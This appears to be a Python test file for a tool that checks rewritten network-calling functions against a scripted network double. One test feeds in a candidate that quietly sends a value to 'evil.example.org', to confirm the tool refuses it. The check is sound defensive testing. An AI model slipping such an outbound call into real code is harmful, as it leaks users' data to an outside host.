"""Functions that read the network are compared over a scripted double of it."""

from __future__ import annotations

import importlib.util
from pathlib import Path

import pytest

from poet.generate.gate.doubles import answer_for

_spec = importlib.util.spec_from_file_location("trying", Path(__file__).with_name("trying.py"))
trying = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(trying)
attempt = trying.attempt

URLLIB = """
    import json
    from urllib.request import Request, urlopen
    def user(number: int) -> str:
        with urlopen(f"https://api.example.com/users/{number}") as answer:
            return json.load(answer)["name"]
"""
REQUESTS = """
    import requests
    def user(number: int) -> str:
        answer = requests.get(f"https://api.example.com/users/{number}", timeout=5)
        answer.raise_for_status()
        return answer.json()["name"]
"""
HTTPX = """
    import httpx
    def user(number: int) -> str:
        with httpx.Client() as client:
            answer = client.get(f"https://api.example.com/users/{number}")
        answer.raise_for_status()
        return answer.json()["name"]
"""
AIOHTTP = """
    import aiohttp
    async def user(number: int) -> str:
        async with aiohttp.ClientSession() as session:
            async with session.get(f"https://api.example.com/users/{number}") as answer:
                answer.raise_for_status()
                return (await answer.json())["name"]
"""
LIBRARIES = {"urllib": URLLIB, "requests": REQUESTS, "httpx": HTTPX, "aiohttp": AIOHTTP}


@pytest.mark.parametrize("library", LIBRARIES)
def test_each_library_returns_values(tmp_path, library):
    """Without a network, the original and the candidate answer."""
    if library != "urllib":
        pytest.importorskip(library)
    tried = attempt(tmp_path, LIBRARIES[library], "user")
    assert tried.passed, tried.text()
    assert tried.agreement.figures["answered"] >= 3


RETRY = """
    @resilient(retries=2, wait=0.1, retry_on=Exception)
    def attempt_it(number):
        return original(number)
"""


def test_a_retry_of_a_read_is_a_recovery(tmp_path):
    """After a failure the answer is the one without it."""
    tried = attempt(tmp_path, REQUESTS, "user", "return attempt_it(number)", head=RETRY)
    assert tried.passed, tried.text()
    assert tried.agreement.figures["recovered"] >= 3


POST = """
    import requests
    def order(sku: str, quantity: int = 1) -> int:
        answer = requests.post("https://shop.example.com/orders", json={"sku": sku, "n": quantity})
        answer.raise_for_status()
        return answer.json()["id"]
"""


def test_a_repeated_effect_is_refused(tmp_path):
    """A POST that may have arrived is not sent again, unless the spec says that it is harmless."""
    head = RETRY.replace("number", "*args")
    operate = "return attempt_it(sku, quantity)"
    tried = attempt(tmp_path, POST, "order", operate, head=head)
    assert "POET-G311" in tried.rules, tried.text()
    assert attempt(tmp_path, POST, "order", operate, head=head, idempotent=True).passed


def test_other_hosts_and_other_requests_are_refused(tmp_path):
    """What is sent is part of the outcome."""
    copied = 'import requests\nrequests.get("https://evil.example.org/?" + str(number))\nreturn original(number)'
    assert "POET-G310" in attempt(tmp_path, REQUESTS, "user", copied).rules
    twice = "original(number)\nreturn original(number)"
    assert "POET-G313" in attempt(tmp_path, REQUESTS, "user", twice).rules
    body = "return original(sku, quantity + 1)"
    assert not attempt(tmp_path, POST, "order", body).passed
    never = "return 3.5"
    assert not attempt(tmp_path, POST, "order", never).passed


def test_a_swallowed_failure_is_a_change(tmp_path):
    """None in place of an HTTP error is another answer."""
    operate = "try:\n    return original(number)\nexcept Exception:\n    return None"
    assert not attempt(tmp_path, REQUESTS, "user", operate).passed


def test_answers_have_the_keys_that_are_read():
    """Nested as they are read."""
    found = answer_for(
        'def f(u):\n    d = get(u).json()\n    return d["user"]["email"], d.get("count")\n'
    )
    assert found["user"]["email"] == "ann@example.com"
    assert "count" in found
